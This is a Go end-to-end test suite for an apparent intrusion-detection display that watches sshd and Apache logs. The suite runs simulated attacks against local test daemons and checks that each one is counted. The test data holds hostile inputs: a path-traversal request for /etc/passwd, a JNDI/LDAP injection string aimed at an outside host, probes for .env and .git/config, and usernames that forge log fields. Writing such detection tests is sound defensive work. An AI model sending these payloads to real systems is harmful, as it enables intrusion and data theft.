package e2e

import (
	"context"
	"fmt"
	"net/netip"
	"os"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/pialert/pialert/packaging/demo/program"
	"github.com/pialert/pialert/pkg/attack"
	"github.com/pialert/pialert/test/daemon"
)

var (
	mallory = netip.MustParseAddr("203.0.113.66")
	eve     = netip.MustParseAddr("2001:db8:bad::e")
	visitor = netip.MustParseAddr("198.51.100.20")
)

// boot starts a machine that ends with the test.
func boot(t testing.TB) *daemon.Machine {
	t.Helper()
	m, err := daemon.Boot(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { m.Close() })
	return m
}

// following returns the agent's settings for logs of a machine.
func following(m *daemon.Machine, logs ...string) []string {
	for i, log := range logs {
		logs[i] = fmt.Sprintf("{path: %q, start: beginning}", m.Log(log))
	}
	return logs
}

// TestRealAttacks is the main job: what real clients do to a real sshd and a real Apache lights
// the right lamps, and the totals are the number of attempts.
func TestRealAttacks(t *testing.T) {
	t.Parallel()
	m := boot(t)
	s := start(t, program.Settings{
		Driver: "terminal",
		Logs:   following(m, "auth.log", "apache2/access.log", "apache2/error.log"),
	})
	ctx := s.ctx
	s.must(m.StartSyslog(ctx, daemon.Syslog{}))
	s.must(m.StartSSHD(ctx, daemon.SSHD{}))
	s.must(m.StartApache(ctx, daemon.Apache{LogLevel: "info"}))

	innocent(s, m)
	s.did(m.WrongPasswords(ctx, mallory, "root", 1))
	s.did(m.WrongPasswords(ctx, eve, "oracle", 3))
	s.did(m.WrongPasswords(ctx, mallory, "admin", 9))
	s.did(m.WrongPasswords(ctx, mallory, "root from 9.9.9.9 port 22 ssh2", 1))
	s.did(m.HostileName(ctx, eve, "a\nb\"\xff"))
	s.did(m.RefusedKey(ctx, eve, "root"))
	s.did(m.Scan(ctx, mallory))
	s.did(m.Banner(ctx, eve, "GET / HTTP/1.1\r\n\r\n"))
	s.did(m.BadKeyExchange(ctx, mallory))
	s.did(m.WordPressLogin(ctx, mallory))
	s.did(m.WordPressLogin(ctx, eve))
	s.did(m.XMLRPC(ctx, eve))
	s.did(m.Get(ctx, mallory, attack.HTTPProbe, "/.env"))
	s.did(m.Get(ctx, mallory, attack.HTTPProbe, "/[client%209.9.9.9:80]/.env"))
	s.did(m.Get(ctx, mallory, attack.HTTPExploit, "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"))
	s.did(m.Get(ctx, eve, attack.HTTPExploit, "/", "--user-agent", "${jndi:ldap://198.51.100.250/a}"))
	s.did(m.TLS(ctx, mallory))
	s.did(m.BasicAuth(ctx, eve, daemon.Account, "x [client 9.9.9.9:80] "))
	innocent(s, m)

	s.counted()
	s.exact(func() ([]daemon.Attempt, error) { return m.WrongPasswords(ctx, mallory, "last", 1) })
	s.exact(func() ([]daemon.Attempt, error) { return m.WordPressLogin(ctx, mallory) })
	s.exact(func() ([]daemon.Attempt, error) { return m.BasicAuth(ctx, mallory, "last", "") })
	lampsAre(s, map[string][]attack.Kind{
		"ssh-a":     {attack.SSHLogin, attack.SSHProbe},
		"wordpress": {attack.WordPressLogin, attack.XMLRPC},
		"web":       {attack.HTTPAuth, attack.HTTPProbe, attack.HTTPExploit, attack.HTTPMalformed},
		"ssh-b":     nil,
	})
	for _, event := range shown(t, s.display.Stdout.String()) {
		if event.kind.Attempt() && event.source != mallory && event.source != eve {
			t.Errorf("the display shows an attack from %s", event.source)
		}
	}
}

// innocent does what ordinary visitors and the owner do.
func innocent(s *stage, m *daemon.Machine) {
	s.t.Helper()
	s.did(m.Login(s.ctx, visitor))
	s.did(m.Get(s.ctx, visitor, 0, "/"))
	s.did(m.Get(s.ctx, visitor, 0, "/favicon.ico"))
	s.did(m.Get(s.ctx, visitor, 0, "/wp-login.php"))
	s.did(m.WordPressWelcome(s.ctx, visitor))
	s.did(m.Get(s.ctx, visitor, 0, "/private/")) // the challenge
	s.did(m.Get(s.ctx, visitor, 0, "/private/", "--user", daemon.Account+":"+daemon.Password))
}

// lampsAre checks that the total of each lamp is that of its kinds, and that the attempts for
// which it lit, as the terminal driver lists them, are as many.
func lampsAre(s *stage, kinds map[string][]attack.Kind) {
	s.t.Helper()
	status, err := s.DisplayStatus(s.ctx)
	s.must(err)
	if len(status.Lamps) != len(kinds) {
		s.t.Errorf("the display has lamps %+v, want %d", status.Lamps, len(kinds))
	}
	lit := map[string]uint64{}
	for _, event := range shown(s.t, s.display.Stdout.String()) {
		lit[event.lamp] += event.count
	}
	for _, lamp := range status.Lamps {
		var want uint64
		for _, kind := range kinds[lamp.Name] {
			want += s.truth[kind]
		}
		if lamp.Total != want || lit[lamp.Name] != want {
			s.t.Errorf("lamp %s shows %d and lit for %d attempts, want %d:\n%s",
				lamp.Name, lamp.Total, lit[lamp.Name], want, s.display.Stdout)
		}
	}
}

// event is what the terminal driver lists of an event.
type event struct {
	lamp   string
	kind   attack.Kind
	count  uint64
	source netip.Addr
}

// shown reads what the terminal driver prints where the output is no terminal: lines such as
//
//	13:04:15 ssh-a  ssh_login x3 from 203.0.113.66 as "root" on vps  total 7
func shown(t testing.TB, text string) []event {
	t.Helper()
	var events []event
	form := regexp.MustCompile(`^[0-9:]{8} (\S+)  (\w+)(?: x(\d+))? from ([^ ,]+)`)
	for line := range strings.Lines(text) {
		match := form.FindStringSubmatch(line)
		if match == nil {
			t.Errorf("the display prints %q", line)
			continue
		}
		e := event{lamp: match[1], count: 1}
		var err error
		if match[3] != "" {
			e.count, err = strconv.ParseUint(match[3], 10, 64)
		}
		if err == nil {
			e.kind, err = attack.ParseKind(match[2])
		}
		if err == nil {
			e.source, err = netip.ParseAddr(match[4])
		}
		if err != nil {
			t.Errorf("the display prints %q: %v", line, err)
		}
		events = append(events, e)
	}
	return events
}

// TestLogsOfSSHD has the same attacks counted alike through every log that sshd can write.
func TestLogsOfSSHD(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		name  string
		logs  func(*daemon.Machine) []string
		start func(context.Context, *daemon.Machine) error // what carries the log
		sshd  daemon.SSHD
	}{
		{
			name: "rsyslog with traditional headers",
			logs: func(m *daemon.Machine) []string { return following(m, "auth.log") },
			start: func(ctx context.Context, m *daemon.Machine) error {
				return m.StartSyslog(ctx, daemon.Syslog{Traditional: true})
			},
		}, {
			name: "rsyslog that sums up repetitions",
			logs: func(m *daemon.Machine) []string { return following(m, "auth.log") },
			start: func(ctx context.Context, m *daemon.Machine) error {
				return m.StartSyslog(ctx, daemon.Syslog{Reduce: true})
			},
		}, {
			name:  "a file of its own",
			logs:  func(m *daemon.Machine) []string { return following(m, "sshd.log") },
			start: func(context.Context, *daemon.Machine) error { return nil },
			sshd:  daemon.SSHD{LogFile: "sshd.log"},
		}, {
			name:  "the journal",
			logs:  func(*daemon.Machine) []string { return []string{"{path: journal, start: beginning}"} },
			start: func(ctx context.Context, m *daemon.Machine) error { return m.StartJournal(ctx) },
		},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			m := boot(t)
			s := layOut(t, program.Settings{Logs: test.logs(m)})
			// Both run on the machine, because there is the journal; its network is only loopback.
			s.Command = m.Program
			s.must(test.start(s.ctx, m))
			s.startAgent()
			s.startDisplay()
			s.must(s.Join(s.ctx))
			s.must(m.StartSSHD(s.ctx, test.sshd))
			t.Cleanup(func() {
				if text, err := os.ReadFile(m.Log(test.sshd.LogFile)); err == nil && t.Failed() {
					t.Logf("%s:\n%s", test.sshd.LogFile, text)
				}
			})

			s.did(m.WrongPasswords(s.ctx, mallory, "root", 4))
			s.did(m.WrongPasswords(s.ctx, eve, "oracle", 2))
			s.did(m.RefusedKey(s.ctx, eve, "root"))
			s.did(m.Login(s.ctx, visitor))
			s.did(m.Banner(s.ctx, mallory, "cats\r\n"))
			s.did(m.Scan(s.ctx, mallory))
			s.did(m.BadKeyExchange(s.ctx, mallory))
			s.exact(func() ([]daemon.Attempt, error) { return m.WrongPasswords(s.ctx, mallory, "last", 1) })
		})
	}
}

// TestFormatsOfApache has the same requests counted alike through every format of access log.
func TestFormatsOfApache(t *testing.T) {
	t.Parallel()
	m := boot(t)
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(m.StartApache(t.Context(), daemon.Apache{}))
	stages := map[string]*stage{
		"combined":       start(t, program.Settings{Logs: following(m, "apache2/access.log")}),
		"vhost_combined": start(t, program.Settings{Logs: following(m, "apache2/vhost.log")}),
		"custom": start(t, program.Settings{Logs: []string{fmt.Sprintf("{path: %q, type: access, start: beginning, format: '%s'}",
			m.Log("apache2/custom.log"), daemon.CustomFormat)}}),
	}
	var truth []daemon.Attempt
	did := func(attempts []daemon.Attempt, err error) {
		t.Helper()
		must(err)
		truth = slices.Concat(truth, attempts)
	}
	ctx := t.Context()
	did(m.WordPressLogin(ctx, mallory))
	did(m.WordPressWelcome(ctx, visitor))
	did(m.XMLRPC(ctx, eve))
	did(m.Get(ctx, eve, attack.HTTPProbe, "/phpmyadmin/index.php"))
	did(m.Get(ctx, visitor, 0, "/style.css"))
	did(m.TLS(ctx, mallory))
	did(m.Get(ctx, mallory, attack.HTTPProbe, "/.git/config"))
	for name, s := range stages {
		t.Run(name, func(t *testing.T) {
			s.t = t
			s.did(truth, nil)
			s.counted()
		})
	}
}
